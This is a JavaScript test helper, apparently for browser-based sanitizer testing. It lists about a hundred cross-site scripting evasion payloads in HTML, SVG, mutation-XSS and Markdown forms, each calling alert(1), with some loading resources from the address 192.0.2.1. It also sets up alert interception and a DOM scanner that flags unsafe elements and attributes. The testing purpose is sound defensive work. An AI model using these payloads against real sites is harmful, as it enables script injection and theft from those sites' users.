// attacks: texts by which somebody might make another person's browser run something: the shapes that collections of
// filter evasions know (tags, handlers, addresses, encodings, broken and nested markup, Markdown), each of which calls alert
// where it works; and what sees that one has worked, or might have.
//
//     await listen(browser);                                  // before the first page is opened
//     ... await assertHarmless(page, 'the feed');
export const attacks = [
    // A script, as it is and in disguise.
    '<script>alert(1)</script>', '<SCRIPT SRC=//192.0.2.1/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script>', '<<script>alert(1);//<</script>', '<script\n>alert(1)</script\n>',
    '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", '--><script>alert(1)</script>', ']]><script>alert(1)</script>',
    '</script><script>alert(1)</script>', '\\"><script>alert(1)</script>', '<script type=module>alert(1)</script>',
    '<svg><script>alert(1)</script></svg>', '<svg><script href="data:,alert(1)"/>', '<math><script>alert(1)</script></math>',
    // Handlers.
    '<img src=x onerror=alert(1)>', '<IMG SRC="x" OnErRoR="alert(1)">', '<img src=x onerror=alert(1)//',
    '<img/src=x/onerror=alert(1)>', '<img """><script>alert(1)</script>">',
    '<img src=/ onerror="alert(String.fromCharCode(88))">', '<img src=x:x onerror=&#97;&#108;ert(1)>',
    '<image src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>', '<p onmouseover=alert(1)>over</p>',
    '<style onload=alert(1)></style>', '<div style="animation-name:x" onanimationstart=alert(1)>',
    '<a onclick=alert(1) href=#>x</a>',
    // Addresses.
    '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction="javascript:alert(1)">x</button>',
    '<math href="javascript:alert(1)">x</math>', '<base href="javascript:alert(1)//">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/>', '<link rel=stylesheet href="//192.0.2.1/x.css">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<img src=//192.0.2.1/seen.png>',
    '<div style="background:url(//192.0.2.1/x.png)">x</div>', '<style>@import "//192.0.2.1/x.css";</style>',
    // What changes its shape when it is read twice.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<template><img src=x onerror=alert(1)></template>', '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\u003cimg src=x onerror=alert(1)\u003e', '<a id=location href=x>x</a><form name=body><input name=innerHTML>',
    '<img name=getElementById>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}',
    // Markdown.
    '[x](javascript:alert(1))', '[x](JAVASCRIPT:alert(1))', '[x](javascript&colon;alert(1))', '[x](<java\nscript:alert(1)>)',
    '[x]( javascript:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '![x](javascript:alert(1))',
    '![x](x"onerror="alert(1))', '![x"onerror="alert(1)](/x)', '[x]: javascript:alert(1)\n\n[x]', '<javascript:alert(1)>',
    '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")', '`<img src=x onerror=alert(1)>`',
    '```"onload="alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
    '[<img src=x onerror=alert(1)>](https://example.com)', '| <svg onload=alert(1)> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '[x](//192.0.2.1/)', '[x](\\\\192.0.2.1)', 'https://example.com/"onmouseover="alert(1)',
];

/** From now on whatever runs is among the complaints of a browser. */
export const listen = (browser) => browser.context.addInitScript(() => {
    for (const name of ['alert', 'confirm', 'prompt', 'print']) {
        window[name] = () => window.reportViolation(`${name} was called`);
    }
});

/** What there is on a page that none of its own texts has put there; as sentences. */
export async function remains(page) {
    await page.evaluate(() => { // whoever waits for the mouse or the keys
        for (const each of document.querySelectorAll('main *')) {
            for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle', 'animationstart', 'load', 'error']) {
                each.dispatchEvent(new Event(type, { bubbles: false }));
            }
        }
    });
    return page.evaluate(() => {
        const found = [];
        const say = (each, why) => found.push(`${why}: ${each.outerHTML.slice(0, 200)}`);
        const HARMLESS = /^(https?:\/\/|mailto:|\/(?![/\\])|#)/;
        const foreign = 'script, style, iframe, object, embed, base, svg, math, link, meta, video, audio, marquee, template';
        document.querySelectorAll('body *').forEach((each) => {
            if (each.matches(foreign)) {
                say(each, 'a foreign element');
            }
            for (const { name, value } of each.attributes) {
                if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || name === 'formaction') {
                    say(each, `the attribute ${name}`);
                }
                if (['href', 'src', 'action', 'xlink:href'].includes(name) && !HARMLESS.test(value)) {
                    say(each, `the address ${value}`);
                }
            }
            if (each.matches('a[href^=http]:not([rel~=nofollow][rel~=ugc])') && new URL(each.href).origin !== location.origin) {
                say(each, 'a link that we seem to vouch for');
            }
        });
        return found;
    });
}
